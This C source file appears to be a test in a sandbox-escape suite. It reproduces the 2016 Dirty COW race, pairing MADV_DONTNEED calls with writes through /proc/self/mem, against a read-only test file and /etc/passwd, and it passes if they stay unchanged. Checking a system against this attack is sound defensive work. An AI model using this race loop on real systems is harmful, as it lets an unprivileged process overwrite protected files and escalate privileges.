// SPDX-License-Identifier: Apache-2.0
//
// Writing to files that may only be read, through private mappings: /proc/self/mem against
// MADV_DONTNEED, as in 2016, on a read-only volume and on a layer of the image.
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <string.h>
#include <sys/mman.h>

#include "attempt.h"

enum { kRaceMs = 350 };
static atomic_bool over;

static void* discard(void* mapping) {
  while (!atomic_load(&over)) {
    madvise(mapping, 4096, MADV_DONTNEED);
  }
  return NULL;
}

static void race(const char* path) {
  char before[64] = "";
  char after[64] = "";
  const int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0 || pread(fd, before, sizeof before, 0) <= 0) {
    harmless(path, -1);
    return;
  }
  void* const mapping = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
  const int memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
  atomic_store(&over, false);
  pthread_t racer;
  pthread_create(&racer, NULL, discard, mapping);
  const long end = elapsed_ms() + kRaceMs;
  while (elapsed_ms() < end) {
    if (pwrite(memory, "ESCAPED!", 8, (off_t)mapping) < 0) {
      break;
    }
  }
  atomic_store(&over, true);
  pthread_join(racer, NULL);
  holds(pread(fd, after, sizeof after, 0) > 0 && memcmp(before, after, sizeof before) == 0, path,
        "has changed");
  munmap(mapping, 4096);
  close(memory);
  close(fd);
}

int main(void) {
  race("/attempts/try_setns");
  race("/etc/passwd");
  return verdict();
}
